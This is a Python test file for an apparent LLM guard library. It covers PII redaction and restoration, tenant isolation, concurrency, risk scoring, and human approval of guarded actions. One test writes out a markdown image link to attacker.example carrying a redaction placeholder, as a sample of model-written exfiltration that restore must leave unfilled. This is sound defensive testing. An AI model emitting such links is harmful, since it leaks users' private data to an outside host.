"""The guard as a library: text in and out, and state that several guards share."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from llmguard import identity
from llmguard.config import Settings
from llmguard.errors import ApprovalIndeterminate, ApprovalPending, GuardUnavailable
from llmguard.guard import Guard
from llmguard.identity import Cause, Person, PersonChange
from llmguard.testing import Fakes


@pytest.fixture
def guard(tmp_path: Path) -> Iterator[Guard]:
    with Guard(Settings(data=tmp_path / "data", names=False)) as opened:
        yield opened


def test_redact_and_restore_are_inverse(guard: Guard, fakes: Fakes) -> None:
    text = f"{fakes.email()} paid with {fakes.card()}; key {fakes.cloud_key()}"
    red = guard.redact(text)
    assert {f.type for f in red.findings} == {"EMAIL", "CREDIT_CARD", "AWS_ACCESS_KEY"}
    assert not [f for f in red.findings if text[f.start : f.end] in red.text]
    assert guard.restore(red.text) == text


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guard]:
    with Guard(Settings(data=tmp_path_factory.mktemp("shared") / "data", names=False)) as opened:
        yield opened


WORDS = st.sampled_from(
    [Fakes(i).email() for i in range(3)] + ["[EMAIL_aaaaaaaaaa]", "[", "]", "EMAIL_", "s", " ", "\\", "é"]
)


@given(st.lists(WORDS, max_size=12))
@hypothesis_settings(deadline=None, max_examples=60, suppress_health_check=[HealthCheck.too_slow])
def test_restore_after_redact_is_the_identity_beside_lookalikes(shared: Guard, words: list[str]) -> None:
    text = "".join(words)
    assert shared.restore(shared.redact(text).text, urls=True) == text


def test_placeholder_that_was_never_issued_stays(guard: Guard, fakes: Fakes) -> None:
    guard.redact(fakes.email())
    text = "[EMAIL_aaaaaaaaaa] and [PERSON_k7q2m4x9ab]"
    assert guard.restore(text) == text


def test_nothing_is_filled_into_urls_that_a_model_may_have_written(guard: Guard, fakes: Fakes) -> None:
    placeholder = guard.redact(fakes.email()).text
    stolen = f"![x](https://attacker.example/?q={placeholder})"
    assert guard.restore(stolen) == stolen


def test_another_guard_on_the_same_folder_restores_and_agrees(guard: Guard, fakes: Fakes) -> None:
    email = fakes.email()
    red = guard.redact(email)
    with Guard(guard.settings) as other:
        assert other.restore(red.text) == email
        assert other.redact(email).text == red.text


def test_other_tenant_restores_nothing(guard: Guard, fakes: Fakes) -> None:
    from dataclasses import replace

    red = guard.redact(fakes.email())
    with Guard(replace(guard.settings, tenant="other")) as other:
        assert other.restore(red.text) == red.text


def test_threads_share_a_guard(guard: Guard) -> None:
    def work(seed: int) -> bool:
        text = f"mail {Fakes(seed).email()}"
        return guard.restore(guard.redact(text).text) == text

    with ThreadPoolExecutor(8) as pool:
        assert all(pool.map(work, range(64)))


def test_closed_guard_refuses(guard: Guard, fakes: Fakes) -> None:
    guard.close()
    with pytest.raises(GuardUnavailable):
        guard.redact(fakes.email())


def test_assess_says_why(guard: Guard, fakes: Fakes) -> None:
    risk = guard.assess(f"{fakes.card()} {fakes.card()}")
    assert risk.inherent > risk.residual > 0
    assert "2 card numbers" in [r.text for r in risk.reasons]
    assert risk.summary == "2 card numbers, to a public provider; all of it redacted"
    assert guard.assess("hello").inherent == 0


def test_forked_child_can_redact(tmp_path: Path) -> None:
    code = f"""
import os
from pathlib import Path
from llmguard.config import Settings
from llmguard.guard import Guard
guard = Guard(Settings(data=Path({str(tmp_path / "data")!r}), names=False))
first = guard.redact("mail a.person@acme-mail.org").text
pid = os.fork()
if pid == 0:
    os._exit(0 if guard.redact("mail a.person@acme-mail.org").text == first else 1)
assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
assert guard.restore(first) == "mail a.person@acme-mail.org"
"""
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path)}
    done = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr


def test_execution_of_a_killed_child_is_given_up_while_its_parent_lives(guard: Guard) -> None:
    people = ("bo@example.org", "cy@example.org")  # nobody is accountable for a local caller: two decide
    for change in [PersonChange(email, ("reviewers",)) for email in people]:
        guard.store.transact(lambda tx, c=change: identity.apply(tx, guard.vault, "default", c, Cause("test")))
    act = guard.action("db.export", wait=0)(_killed)
    with pytest.raises(ApprovalPending) as asked:
        act()
    for email in people:
        _approve(guard, str(asked.value.approval_id), email)
    pid = os.fork()
    if pid == 0:
        act()
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == -signal.SIGKILL
    guard.store.transact(guard.approvals.sweep)
    with pytest.raises(ApprovalIndeterminate):
        act()


def _killed() -> None:
    os.kill(os.getpid(), signal.SIGKILL)


def _approve(guard: Guard, id_: str, email: str) -> None:
    who = Person("default", email, (), True, 0)
    digest = guard.store.read(lambda tx: guard.approvals.get(tx, "default", id_)).egress_digest
    guard.store.transact(lambda tx: guard.approvals.vote(tx, "default", id_, who, "approve", digest))
